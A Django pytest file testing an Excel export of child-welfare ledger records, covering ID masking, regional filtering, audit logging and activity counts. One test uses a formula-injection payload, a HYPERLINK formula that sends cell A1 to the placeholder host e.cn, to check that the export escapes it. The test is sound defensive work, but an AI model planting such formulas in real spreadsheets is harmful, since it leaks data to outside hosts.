"""The ledger (信息台账) export, opened with openpyxl."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from backend.audit.models import AuditEvent
from backend.children.services import child_exit
from backend.children.spreadsheets import LEDGER_HEADINGS
from tests.children.factories import ChildFactory, ConcernFactory

pytestmark = pytest.mark.django_db


def _sheet(response):
    body = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(body), read_only=True)["信息台账"]


def test_ledger_lists_the_region_with_masked_ids_and_open_concerns(client, qinshui_officer):
    # given children in and out of Qinshui, one with two open concerns, one exited
    orphan = ChildFactory(category="in_difficulty", difficulty_subtype="orphan", risk_level="high", needs=["safety"])
    ConcernFactory(child=orphan)
    ConcernFactory(child=orphan, status="acknowledged")
    plain = ChildFactory(village_id="140521100002")
    zezhou = ChildFactory(village_id="140525100001", given_name="泽州娃")
    gone = ChildFactory(given_name="已退出")
    child_exit(child=gone, exited_by=qinshui_officer, reason="moved_away")
    client.force_login(qinshui_officer)
    # when she exports
    response = client.get(reverse("children-api:ledger"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = list(_sheet(response).iter_rows(values_only=True))
    # then the headings are there and each active child in her region has one row
    assert tuple(rows[1]) == LEDGER_HEADINGS
    data = {r[1]: dict(zip(LEDGER_HEADINGS, r, strict=True)) for r in rows[2:]}
    assert set(data) == {orphan.pk, plain.pk}
    row = data[orphan.pk]
    assert row["身份证号码（脱敏）"] == orphan.id_number[:6] + "********" + orphan.id_number[-4:]
    assert row["儿童类别"] == "困境儿童" and row["困境类型"] == "孤儿"
    assert row["村（社区）"] == "晋城市沁水县龙港镇柳庄社区居委会"
    assert row["监护人关系"] == "祖父母/外祖父母" and row["关爱需求"] == "安全保护" and row["风险等级"] == "高"
    assert row["待处理关注事项"] == 2 and data[plain.pk]["待处理关注事项"] == 0
    # pairings and check-ins come with later issues: the columns exist and are empty
    assert row["结对爱心妈妈"] is None and row["最近关爱记录"] is None
    body = str(rows)
    assert orphan.id_number not in body and zezhou.given_name not in body and "已退出" not in body
    # and the export is audited with the exported ids
    event = AuditEvent.objects.get(action="export")
    assert sorted(event.object_ids) == sorted([str(orphan.pk), str(plain.pk)])
    assert event.region_code == "140521"


def test_a_name_that_looks_like_a_formula_is_written_as_text(client, qinshui_officer):
    from openpyxl import load_workbook as load

    evil = '=HYPERLINK("//e.cn?"&A1,"点此")'
    child = ChildFactory(family_name="", given_name=evil)
    client.force_login(qinshui_officer)
    body = b"".join(client.get(reverse("children-api:ledger")).streaming_content)
    ws = load(io.BytesIO(body))["信息台账"]
    cells = [row[2] for row in ws.iter_rows(min_row=3) if row[1].value == child.pk]
    assert cells[0].data_type == "s" and cells[0].value == "'" + evil


def test_the_ledger_counts_each_childs_activity_sessions_and_fulfilled_wishes(client, qinshui_officer):
    from backend.activities import services as activities
    from backend.activities.models import Activity, Wish
    from tests.activities.factories import ActivityFactory

    camper, other = ChildFactory(), ChildFactory(village_id="140521100002")
    camp = ActivityFactory(kind=Activity.Kind.CAMP, capacity_children=2)
    signup = activities.signup_create(
        activity=camp, audience="child", channel="staff", by=qinshui_officer, child=camper, consent_by="奶奶"
    )
    activities.attendance_mark(session=camp.sessions.get(), signup=signup, by=qinshui_officer)
    Wish.objects.create(
        child=camper, item="课外书", estimated_value=50, status="fulfilled", recorded_by=qinshui_officer
    )
    Wish.objects.create(child=other, item="书包", estimated_value=80, status="published", recorded_by=qinshui_officer)
    client.force_login(qinshui_officer)
    rows = list(_sheet(client.get(reverse("children-api:ledger"))).iter_rows(values_only=True))
    data = {r[1]: dict(zip(LEDGER_HEADINGS, r, strict=True)) for r in rows[2:]}
    assert (data[camper.pk]["参加关爱活动（场次）"], data[camper.pk]["已实现微心愿"]) == (1, 1)
    assert (data[other.pk]["参加关爱活动（场次）"], data[other.pk]["已实现微心愿"]) == (0, 0)
